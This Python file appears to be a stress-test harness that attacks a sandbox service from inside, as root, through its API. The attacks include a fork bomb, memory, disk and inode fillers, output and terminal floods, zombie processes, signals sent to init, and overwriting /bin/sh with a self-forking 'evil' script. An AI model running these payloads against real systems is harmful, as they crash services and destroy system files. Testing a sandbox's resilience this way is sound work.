"""Attacks from inside a sandbox, as root. Each takes (target, size, seconds), lasts `seconds` at the longest, and returns
what it reached."""

import json
import threading
import time

from hostile_client import frame

# Beginning of the Python programs inside: `left()` says whether there is time.
CLOCK = "import os, sys, time\nend = time.monotonic() + {seconds}\nleft = lambda: time.monotonic() < end\n"


def execute(target, command, seconds, **more):
    """A command as root; None if its sandbox did not survive."""
    body = {"command": command, "user": "root", "timeout": seconds + 10, **more}
    status, data = target.call("POST", target.base + "/exec", body)
    return json.loads(data) if status == 200 else None


def shell(target, script, seconds):
    result = execute(target, ["bash", "-c", script], seconds)
    return result["cause"] if result else "the sandbox ended"


def python(target, program, seconds, **more):
    """A Python program inside; the last line of its standard error is what it reached."""
    result = execute(target, ["python3", "-c", CLOCK.format(seconds=seconds) + program], seconds, **more)
    if result is None:
        return "the sandbox ended"
    return result["stderr"].strip().split("\n")[-1][-60:] or result["cause"]


def fork_bomb(target, size, seconds):
    return shell(target, f"bomb() {{ bomb | bomb & }}; bomb; sleep {seconds}", seconds)


def memory_hog(target, size, seconds):
    return python(target, """
n = 0
while left():
    n += 1
    if os.fork() == 0:
        keep = [bytearray(8 << 20) for _ in range(256)]
        os._exit(0)
    os.wait()
print(n, 'hogs', file=sys.stderr)""", seconds)


def cpu_hog(target, size, seconds):
    return shell(target, f"for i in 1 2 3 4 5 6 7 8; do timeout {seconds} sh -c 'while :; do :; done' & done; wait", seconds)


def disk_filler(target, size, seconds):
    return python(target, f"""
file = os.open('/fill', os.O_CREAT | os.O_WRONLY)
done, part = 0, bytes(1 << 20)
try:
    while done < {size['disk']} and left(): done += os.write(file, part)
except OSError as error: print(error)
os.unlink('/fill')
print(done >> 20, 'MiB', file=sys.stderr)""", seconds)


def inode_filler(target, size, seconds):
    return python(target, f"""
done = 0
try:
    while done < {size['inodes']} and left():
        if done % 1000 == 0: os.makedirs(f'/many/{{done // 1000}}')
        os.mknod(f'/many/{{done // 1000}}/{{done}}')
        done += 1
except OSError as error: print(error)
print(done, 'files', file=sys.stderr)""", seconds)


def follow(target, process, over):
    """Reads a process's output as events until it ends; counts bytes of the stream in `over`."""
    connection = target.connection()
    connection.request("GET", f"{target.base}/processes/{process}/output?follow=true", headers={
        "Authorization": f"Bearer {target.key}"})
    response = connection.getresponse()
    while part := response.read1(1 << 20):
        over.append(len(part))
    connection.close()


def output(program):
    """Output of a process without and with somebody who reads it."""
    def attack(target, size, seconds, followed):
        text = CLOCK.format(seconds=seconds) + program.format(**size)
        body = {"command": ["python3", "-c", text], "user": "root", "timeout": seconds + 10}
        process = target.json("POST", target.base + "/processes", body)
        read = []
        if followed:
            follow(target, process["id"], read)
        target.call("GET", f"{target.base}/processes/{process['id']}/wait?timeout={seconds + 30}")
        status, data = target.call("GET", f"{target.base}/processes/{process['id']}")
        if status != 200:
            return f"the sandbox ended ({status})"
        end = json.loads(data)
        written, cause = end["output_end"], end.get("exit", {}).get("cause", "still running")
        amount = f"{written >> 20} MiB" if written > 100 << 20 else f"{written} bytes"
        return f"{amount} written, {cause}" + (f", {sum(read) >> 20} MiB of events read" if followed else "")
    return attack


MUCH = output("""
done, part = 0, b'x' * (1 << 20)
while done < {output} and left(): done += os.write(1, part)""")
TINY = output("""
done = 0
while done < {writes} and left():
    for _ in range(1000): os.write(1 + done % 2, b'x'); done += 1""")


def much_output(target, size, seconds):
    return MUCH(target, size, seconds, False)


def much_output_read(target, size, seconds):
    return MUCH(target, size, seconds, True)


def tiny_writes(target, size, seconds):
    return TINY(target, size, seconds, False)


def tiny_writes_read(target, size, seconds):
    return TINY(target, size, seconds, True)


def terminals(target, size, seconds):
    """Terminals that print without end: half of them with an observer who reads, half with one who does not; both change
    the terminal's size all the time."""
    end = time.monotonic() + seconds
    count = size["terminals"]
    body = {"command": ["timeout", str(seconds), "yes", "flood" * 10], "user": "root",
            "terminal": {"columns": 80, "rows": 24}, "timeout": seconds + 10}
    processes = [target.json("POST", target.base + "/processes", body)["id"] for _ in range(count)]
    sockets = [target.websocket(f"{target.base}/processes/{process}/attach", seconds + 30) for process in processes]
    read = []

    def observe(opened, number):
        opened.settimeout(0.5)
        while time.monotonic() < end:
            try:
                opened.sendall(frame(1, b'{"type":"resize","columns":%d,"rows":24}' % (20 + number % 200)))
                if number % 2:
                    time.sleep(0.05)
                    continue
                part = opened.recv(1 << 20)
                if not part:
                    return
                read.append(len(part))
            except TimeoutError:
                continue
            except OSError:
                return

    threads = [threading.Thread(target=observe, args=(opened, number))
               for number, opened in enumerate(sockets) if opened]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    for opened in filter(None, sockets):
        opened.close()
    return f"{count} terminals, {len(threads)} observers, {sum(read) >> 20} MiB read"


def watched_files(target, size, seconds):
    """Files come into directories under a watch that nobody reads, then all change once."""
    target.json("POST", target.base + "/files/mkdir", {"path": "/watched", "parents": True})
    connection = target.connection()
    connection.request("GET", f"{target.base}/files/watch?path=/watched&recursive=true", headers={
        "Authorization": f"Bearer {target.key}"})
    answer = connection.getresponse()
    reached = python(target, f"""
done = changed = 0
while done < {size['watched']} and left():
    if done % 1000 == 0: os.makedirs(f'/watched/{{done // 1000}}')
    open(f'/watched/{{done // 1000}}/{{done}}', 'w').close()
    done += 1
while changed < done and left():
    os.utime(f'/watched/{{changed // 1000}}/{{changed}}')
    changed += 1
print(done, 'files,', changed, 'changed', file=sys.stderr)""", seconds)
    connection.close()
    return f"{reached}; watch {answer.status}"


def zombies(target, size, seconds):
    return python(target, """
n = waiting = 0
while left():
    try:
        if os.fork() == 0: os._exit(0)
        n += 1; waiting += 1
    except OSError:
        while waiting: os.wait(); waiting -= 1
print(n, 'zombies', file=sys.stderr)""", seconds)


def double_forks(target, size, seconds):
    return python(target, """
n = 0
while left():
    try:
        child = os.fork()
        if child == 0:
            os.setsid()
            try:
                if os.fork() == 0: time.sleep(0.5)
            finally: os._exit(0)
        os.waitpid(child, 0)
        n += 1
    except OSError: time.sleep(0.05)
print(n, 'daemons', file=sys.stderr)""", seconds)


def other_shell(target, size, seconds):
    """`/bin/sh` becomes a program that prints and starts itself; then commands are asked for by that name."""
    evil = "#!/usr/bin/python3\\nimport os\\nos.write(1, b'evil' * 65536)\\nos.fork()\\nos.execv('/bin/sh', ['sh'])\\n"
    execute(target, ["bash", "-c", f"rm -f /bin/sh /usr/bin/sh; printf \"{evil}\" > /bin/sh; chmod +x /bin/sh"], 10)
    end, count = time.monotonic() + seconds, 0
    while time.monotonic() < end:
        execute(target, ["sh", "-c", "true"], 10, timeout=1)
        count += 1
    return f"{count} commands"


def deaf(target, size, seconds):
    return shell(target, f"trap '' TERM INT HUP; for i in 1 2 3 4 5 6 7 8; do sleep {seconds} & done; sleep {seconds}", seconds)


def signals_to_init(target, size, seconds):
    script = "while :; do for n in 15 2 1 10 12 17 28 20; do kill -$n 1; done; done"
    return shell(target, f"timeout {seconds} bash -c '{script}'; true", seconds)


def error_stream(target, size, seconds):
    return python(target, f"""
file, done, part = os.open('/proc/1/fd/2', os.O_WRONLY), 0, b'x' * (1 << 16)
while done < {size['errors']} and left(): done += os.write(file, part)
print(done >> 20, 'MiB', file=sys.stderr)""", seconds)


ATTACKS = {
    "fork bomb": fork_bomb,
    "memory hogs": memory_hog,
    "CPU hogs": cpu_hog,
    "disk filler": disk_filler,
    "inode filler": inode_filler,
    "output": much_output,
    "output, read": much_output_read,
    "tiny writes": tiny_writes,
    "tiny writes, read": tiny_writes_read,
    "terminal floods": terminals,
    "watched files": watched_files,
    "zombies": zombies,
    "double forks": double_forks,
    "other /bin/sh": other_shell,
    "signals ignored": deaf,
    "signals to the init": signals_to_init,
    "init's error stream": error_stream,
}

